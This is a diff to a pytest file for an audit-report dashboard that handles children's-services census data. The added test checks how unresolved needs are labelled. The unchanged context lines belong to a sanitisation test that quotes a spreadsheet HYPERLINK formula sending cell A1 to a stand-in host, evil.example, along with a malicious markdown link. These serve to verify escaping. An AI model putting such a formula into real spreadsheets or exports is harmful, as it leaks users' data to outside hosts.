@@ -11,7 +11,7 @@ import pytest
 
 from paqa_dash import access_log, cli, store
 from paqa_dash.report import pack
-from support.audit_store import AS_OF, CA, CB, CC, FAMILY_MARKUP, MARKUP, PA2, build_audit_store
+from support.audit_store import AS_OF, CA, CB, CC, FAMILY_MARKUP, MARKUP, PA1, PA2, build_audit_store
 
 HEADINGS = [h for _a, h, _q in pack.SECTIONS]
 
@@ -314,3 +314,48 @@ def test_hostile_action_text_reads_back_as_text(tmp_path):
     assert "<script" not in text and "<img" not in text       # ... never as markup
     assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)" in text
     assert "[see the report](http://evil.example/x)" in text   # a markdown link stays its characters
+
+
+def _needs_rows(html: str) -> list[list[str]]:
+    """The rows of section 4's needs table, as text cells."""
+    part = html[html.index('class="needs"'):]
+    part = part[:part.index("</table>")]
+    return [[re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
+            for row in re.findall(r"<tr[^>]*>(.*?)</tr>", part, re.S) if "<td" in row]
+
+
+def test_census_needs_read_resolution_not_recorded_never_open(tmp_path):
+    """A CIN census records assessment factors with no resolved date, ever: section 4, which the audit group
+    judges question 4 on, says the resolution is not recorded (as the cover does), never OPEN; the chronology's
+    picture does not call them still open.  Needs from a source with resolved dates still read OPEN."""
+    from paqa_dash.pipeline import run_import
+    from support.paths import FIXTURES
+
+    db = tmp_path / "census.duckdb"
+    run_import([FIXTURES / "cin" / "authority_2022.xml"], db)
+    census = store.connect(db, read_only=True)
+    try:
+        child = census.execute("SELECT child_id FROM needs GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1").fetchall()[0][0]
+        html = pack.build_pack(census, child)
+    finally:
+        census.close()
+    rows = _needs_rows(html)
+    assert rows and all(r[3] == "not recorded in this data" for r in rows)
+    assert "OPEN" not in html[html.index('id="needs"'):html.index('id="engagement"')]
+    section = re.sub(r"<[^>]+>", " ", html[html.index('id="needs"'):html.index('id="engagement"')])
+    assert "Resolved: not recorded in this data: no resolution dates of needs" in section
+    svg = html[html.index("<svg"):html.index("</svg>")]
+    assert "still open</title>" not in svg and "resolution not recorded in this data</title>" in svg
+    # a bundle whose needs carry resolved dates: an unresolved one is open
+    bundle = build_audit_store(tmp_path / "bundle.duckdb")
+    c = store.connect(bundle)
+    c.execute("INSERT INTO needs VALUES ('a1a1a1a1a1a1a1n2', ?, ?, DATE '2019-12-01', '1B', DATE '2020-03-01', 1)",
+              [CA, PA1])
+    c.close()
+    c = store.connect(bundle, read_only=True)
+    try:
+        resolved = pack.build_pack(c, CA, as_of=AS_OF)
+    finally:
+        c.close()
+    assert sorted(r[3] for r in _needs_rows(resolved)) == ["01 Mar 2020", "OPEN"]
+    assert "Resolved: not recorded" not in resolved
